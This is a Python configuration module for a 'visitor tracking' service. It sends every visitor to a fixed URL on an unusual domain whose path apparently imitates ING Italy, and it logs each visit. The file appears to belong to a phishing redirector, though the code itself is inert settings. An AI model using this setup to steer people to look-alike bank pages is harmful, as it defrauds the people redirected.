"""Visitor tracking configuration.

Unlike the environment-driven settings classes, these values are fixed for
the lifetime of the process. The redirect target is deliberately not read
from the environment.
"""

from dataclasses import dataclass, field
from datetime import timedelta, timezone, tzinfo
from pathlib import Path

REDIRECT_TARGET_URL = "https://smartvisitorpsmza.info/it/ing-it/web/add.php"
VISIT_LOG_FILENAME = "visitors.log"
LOG_TAIL_LINES = 200
VISIT_LOG_TIMEZONE = timezone(timedelta(hours=8), name="UTC+08:00")


def _default_log_path() -> Path:
    return Path.cwd() / VISIT_LOG_FILENAME


@dataclass(frozen=True)
class VisitorConfig:
    """Immutable configuration handed to the visitor handlers.

    Attributes:
        target_url: Where every visitor is redirected
        log_path: Append-only visit log, resolved against the working
            directory when the config is built
        tail_lines: Number of lines returned by the log reader
        timezone: Zone visit timestamps are rendered in
    """

    target_url: str = REDIRECT_TARGET_URL
    log_path: Path = field(default_factory=_default_log_path)
    tail_lines: int = LOG_TAIL_LINES
    timezone: tzinfo = VISIT_LOG_TIMEZONE
